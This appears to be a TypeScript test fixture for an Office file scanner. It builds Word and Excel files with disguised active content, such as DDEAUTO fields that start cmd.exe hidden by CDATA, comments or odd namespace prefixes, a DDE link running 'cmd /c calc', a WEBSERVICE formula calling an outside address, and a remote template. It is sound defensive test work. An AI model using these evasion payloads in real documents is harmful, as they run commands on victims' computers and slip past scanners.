import { DOCX, letter, related, types, workbook, XLSX } from '../office-files.ts';
import { type Case, casesOf } from './case.ts';

const START = 'DDEAUTO c:\\\\cmd.exe';
/** A field with this instruction; the tags have this prefix. */
const field = (instruction: string, prefix = 'w:') =>
  `<${prefix}fldChar ${prefix}fldCharType="begin"/>${instruction}<${prefix}fldChar ${prefix}fldCharType="end"/>`;
const withPrefix = (prefix: string) => field(`<${prefix}instrText>${START}</${prefix}instrText>`, prefix);
const inside = (text: string) => field(`<w:instrText>${text}</w:instrText>`);
const HEADER = 'application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml';
/** A letter with a header that is called so, of this type. */
const header = (name: string, type?: string, content: string | Buffer = withPrefix('w:')) =>
  letter({
    '[Content_Types].xml': types(
      ['/word/document.xml', DOCX],
      ...(type ? [[name, type] as [string, string]] : []),
    ),
    'word/_rels/document.xml.rels': related('header', name),
    [name.slice(1)]: content,
  });
const LIST = 'http://schemas.openxmlformats.org/package/2006/relationships';
const external = (more: string) =>
  `<a-b:Relationships xmlns:a-b="${LIST}"><a-b:Relationship Id="rId1" Type="a/attachedTemplate" Target="https://a.example/t.dotm" TargetMode="External"${more}/></a-b:Relationships>`;
const template = (more: string) => () => letter({ 'word/_rels/settings.xml.rels': external(more) });

const FIELDS: [content: string, make: () => Promise<Buffer>][] = [
  ...['', 'x:', 'x-y:', 'é.1:'].map((prefix): [string, () => Promise<Buffer>] => [
    'a field that starts a program, with any prefix',
    () => letter({}, withPrefix(prefix)),
  ]),
  ['a field that starts a program', () => letter({}, inside('D<![CDATA[DEAU]]>TO a b'))],
  ['a field that starts a program', () => letter({}, inside('D<?a b?>DEAUTO a b'))],
  ['a field that starts a program', () => letter({}, inside('DDE<!-- a -->AUTO a b'))],
  [
    'a field that starts a program',
    () => letter({}, field('<w:instrText>DDE</w:instrText><w:t>x</w:t><w:instrText>AUTO a b</w:instrText>')),
  ],
  ...[HEADER, `${HEADER}; charset=utf-8`, 'image/svg+xml', undefined].map(
    (type): [string, () => Promise<Buffer>] => [
      'a field that starts a program, in a part of any name, place and type',
      () => header('/other/a.dat', type),
    ],
  ),
  [
    'a field that starts a program, in a part of any name, place and type',
    () => header('/other/a.dat', undefined, Buffer.from(`\ufeff${withPrefix('w:')}`, 'utf16le')),
  ],
  [
    'a field that starts a program, in a part of any name, place and type',
    () =>
      letter({
        '[Content_Types].xml': types(['/a/b.bin', DOCX]),
        '_rels/.rels': related('officeDocument', 'a/b.bin'),
        'a/b.bin': `<w:document><w:body>${withPrefix('w:')}</w:body></w:document>`,
      }),
  ],
];
const DAMAGED: [content: string, make: () => Promise<Buffer>][] = [
  ['an instruction with a tag of another namespace', () => letter({}, inside('D<x:a/>DEAUTO a b'))],
  ['an instruction with a tag of another namespace', () => letter({}, inside('<x:a/>DDEAUTO a b'))],
  ['an attribute in two namespaces', () => letter({}, '<w:fldSimple w:instr="DDEAUTO a b" x:instr="PAGE"/>')],
  [
    'an attribute in two namespaces',
    () => letter({}, '<v:imagedata src="http://a.example/a.png" x:src="a"/>'),
  ],
  ['an attribute in two namespaces', template(' x:Target="a"')],
  [
    'two parts that it begins with',
    () =>
      letter({
        '[Content_Types].xml': types(
          ['/word/document.xml', DOCX],
          ['/word/other.xml', 'application/vnd.ms-word.document.macroEnabled.main+xml'],
        ),
        '_rels/.rels': `<Relationships><Relationship Id="a" Type="a/officeDocument" Target="word/document.xml"/><Relationship Id="b" Type="b/officeDocument" Target="word/other.xml"/></Relationships>`,
        'word/other.xml': '<w:document><w:body/></w:document>',
      }),
  ],
];

/** Active content, written in other ways than Office writes it. */
export const disguisedCases: Case[] = [
  ...casesOf('docx', {
    'a template on another computer => loads_outside: template': template(''),
  }),
  ...casesOf('xlsx', {
    'a link to a program, in a part of any name, place and type => has_scripts: field': () =>
      workbook({
        '[Content_Types].xml': types(
          ['/xl/workbook.xml', XLSX],
          ['/other/a.dat', 'application/octet-stream'],
        ),
        'other/a.dat':
          '<x-y:externalLink><x-y:ddeLink ddeService="cmd" ddeTopic="/c calc"/></x-y:externalLink>',
      }),
    'a formula that calls an address => loads_outside: function': () =>
      workbook({}, '<x-y:f>WEB<!-- -->SERVICE("http://a.example/")</x-y:f>'),
    'a formula with a tag of another namespace => wrong_content: damaged': () =>
      workbook({}, '<f>WEB<x:a/>SERVICE("http://a.example/")</f>'),
    'a formula that checks what is entered => taken': () =>
      workbook({}, '<x14:formula1><xm:f>Sheet2!A1:A9</xm:f></x14:formula1>'),
  }),
  ...FIELDS.map(([content, make]): Case => [content, 'has_scripts: field', 'docx', make]),
  ...DAMAGED.map(([content, make]): Case => [content, 'wrong_content: damaged', 'docx', make]),
];
